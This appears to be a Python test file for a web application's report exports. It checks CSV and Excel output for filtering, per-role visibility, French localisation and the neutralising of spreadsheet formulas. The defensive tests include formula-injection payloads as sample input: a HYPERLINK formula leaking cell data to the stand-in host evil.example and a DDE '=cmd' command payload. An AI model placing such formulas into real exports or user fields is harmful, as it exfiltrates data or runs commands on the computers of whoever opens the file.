"""Exports parse back, follow the filters and visibility, and carry no formulas."""

import csv
import io
from zoneinfo import ZoneInfo

import openpyxl

from tracker.reports.exports import neutralise

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def csv_rows(response):
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def test_csv_parses_back_with_the_filtered_rows(client, login, org, apps):
    login(org["admin"])
    rows = csv_rows(client.get("/reports/applications.csv?status=approved&sort=reference&columns=codes"))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["reference", "title", "status"]
    assert sorted(row[0] for row in body) == sorted(
        [apps["ada_de"].reference, apps["bob_us"].reference])
    record = dict(zip(header, next(row for row in body if row[0] == apps["bob_us"].reference)))
    assert record["applicant"] == "Bob Builder"
    assert record["host_country"] == "US"
    assert record["duration_days"] == "11"
    assert record["requested_amount"] == "1500.00"
    assert record["awarded_amount"] == ""
    assert record["start_date"] == apps["bob_us"].start_date.isoformat()
    # Times in the organisation's zone, which the header names (no UTC "Z").
    created = apps["bob_us"].created_at.astimezone(ZoneInfo("Europe/Paris"))
    assert record["created_at (Europe/Paris)"] == created.strftime("%Y-%m-%d %H:%M:%S")


def test_csv_of_a_director_holds_only_their_unit(client, login, org, apps):
    login(org["director_b"])
    body = csv_rows(client.get("/reports/applications.csv"))[1:]
    assert [row[0] for row in body] == [apps["bob_us"].reference]


def test_csv_neutralises_formulas_from_user_text(client, login, make, org):
    for title in (FORMULA, "+1+1", "-2", "@SUM(A1)", "\tTabbed", "\rReturn"):
        make.application(applicant=org["ada"], host=org["partner_us"], title=title,
                         programme=org["outgoing"])
    evil_name = make.user(lab=org["unit_a"], full_name="=cmd|' /C calc'!A0")
    make.application(applicant=evil_name, host=org["partner_us"], programme=org["outgoing"])
    login(org["admin"])
    rows = csv_rows(client.get("/reports/applications.csv?columns=codes"))
    header = rows[0]
    for row in rows[1:]:
        for name, cell in zip(header, row):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            if name in ("title", "applicant"):
                assert not cell.startswith("-")
    titles = {row[1] for row in rows[1:]}
    assert "'" + FORMULA in titles and "'-2" in titles


def test_xlsx_parses_back_without_formula_cells(client, login, make, org, apps):
    # Submitted: a director sees the requests of their unit once they are no longer drafts.
    make.application(applicant=org["ada"], host=org["partner_us"], title=FORMULA,
                     programme=org["outgoing"], status="submitted")
    login(org["director_a"])
    response = client.get("/reports/applications.xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert header[:3] == ["Reference", "Title", "Status"]
    references = {row[0].value for row in rows[1:]}
    assert apps["bob_us"].reference not in references
    assert apps["visit_a"].reference in references and len(references) == 5
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
    assert "'" + FORMULA in {row[1].value for row in rows[1:]}


def test_neutralise_leaves_numbers_and_plain_text():
    assert neutralise("=1") == "'=1"
    assert neutralise("Plain") == "Plain"
    assert neutralise(3) == 3


def test_xlsx_beyond_what_a_request_builds_goes_to_a_job(client, login, org, apps,
                                                          monkeypatch):
    from tracker.reports import exports

    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
    login(org["admin"])
    response = client.get("/reports/applications.xlsx?status=approved&sort=reference")
    assert response.status_code == 200  # two rows: within the limit, built at once
    started = client.get("/reports/applications.xlsx?direction=outgoing")
    assert started.status_code == 302
    assert "/jobs/" in started.headers["Location"]
    # Without a job queue (REDIS_URL) the job ran within the request: its file is ready.
    page = client.get(started.headers["Location"]).get_data(as_text=True)
    assert "Download applications-" in page


# Labels by default; a variant for French Excel ------------------------------------------------
def test_csv_is_headed_by_labels_with_labelled_values(client, login, org, apps):
    login(org["admin"])
    rows = csv_rows(client.get("/reports/applications.csv?status=approved&sort=reference"))
    header = rows[0]
    assert header[:5] == ["Reference", "Title", "Status", "Direction", "Funding"]
    assert "Requested (EUR)" in header and "Cost: Travel (EUR)" in header
    assert not any("_" in name for name in header)
    record = dict(zip(header, next(row for row in rows[1:]
                                   if row[0] == apps["bob_us"].reference)))
    assert record["Status"] == "Approved"
    assert record["Direction"] == "Outgoing"
    assert record["Funding"] == "Programme call"
    assert record["Purpose"] == "Research stay"
    assert record["Requested (EUR)"] == "1500.00"
    assert record["Host country"] == "United States"


def test_labelled_exports_name_host_countries_in_the_readers_language(client, login, org, apps):
    login(org["admin"])
    french = {"Accept-Language": "fr-FR,fr;q=0.9"}
    rows = csv_rows(client.get("/reports/applications.csv?status=approved&sort=reference",
                               headers=french))
    header = rows[0]
    assert header[:3] == ["Référence", "Intitulé", "Statut"]
    countries = {row[0]: row[header.index("Pays d'accueil")] for row in rows[1:]}
    assert countries == {apps["ada_de"].reference: "Allemagne",
                         apps["bob_us"].reference: "États-Unis"}
    text = client.get("/reports/applications.csv?status=approved&excel=fr",
                      headers=french).get_data(as_text=True).lstrip("\ufeff")
    excel = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert {row[excel[0].index("Pays d'accueil")] for row in excel[1:]} == {"Allemagne",
                                                                           "États-Unis"}
    response = client.get("/reports/applications.xlsx?status=approved", headers=french)
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    column = values[0].index("Pays d'accueil")
    assert {row[column] for row in values[1:]} == {"Allemagne", "États-Unis"}
    # The machine shape keeps the codes, whatever the reader's language.
    codes = csv_rows(client.get("/reports/applications.csv?status=approved&columns=codes",
                                headers=french))
    assert {row[codes[0].index("host_country")] for row in codes[1:]} == {"DE", "US"}


def test_csv_for_french_excel_uses_semicolons_decimal_commas_and_a_bom(client, login, org, apps):
    login(org["admin"])
    response = client.get("/reports/applications.csv?status=approved&sort=reference&excel=fr")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.get_data().startswith("\ufeff".encode())
    assert "excel-fr" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header = rows[0]
    assert header[:3] == ["Reference", "Title", "Status"] and len(header) > 20
    record = dict(zip(header, next(row for row in rows[1:]
                                   if row[0] == apps["bob_us"].reference)))
    assert record["Requested (EUR)"] == "1500,00"
    assert record["Status"] == "Approved"
    page = client.get("/reports/applications?status=approved").get_data(as_text=True)
    assert "excel=fr" in page and "CSV for Excel (French)" in page


def test_the_codes_shape_keeps_the_machine_columns(client, login, org, apps):
    login(org["admin"])
    rows = csv_rows(client.get("/reports/applications.csv?columns=codes&status=approved"))
    assert rows[0][:3] == ["reference", "title", "status"]
    assert {row[2] for row in rows[1:]} == {"approved"}
